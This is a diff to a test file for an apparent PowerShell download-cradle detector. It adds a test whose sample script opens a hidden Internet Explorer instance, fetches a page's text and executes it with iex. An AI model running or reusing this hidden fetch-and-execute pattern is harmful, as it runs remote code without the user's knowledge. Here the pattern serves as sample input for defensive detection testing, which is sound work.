@@ -93,3 +93,18 @@ def test_signed_proxy_running_remote_content_in_a_command_line_string() -> None:
         schtasks /create /tn Backup /tr "msiexec /i C:\\pkg\\agent.msi /qn" /sc daily
     """)
     assert lines_of(result, "PSDownloadCradle") == [1, 2, 3]
+
+
+def test_hidden_internet_explorer_page_text_executed_is_a_cradle() -> None:
+    result = analyze("""
+        $ie = New-Object -ComObject InternetExplorer.Application
+        $ie.Visible = $false
+        $ie.Navigate($Url)
+        while ($ie.Busy) { Start-Sleep -Milliseconds 200 }
+        $text = $ie.Document.body.innerText
+        $ie.Quit()
+        iex $text
+        $title = $ie.Document.body.innerText
+        Write-Output $title
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [5]
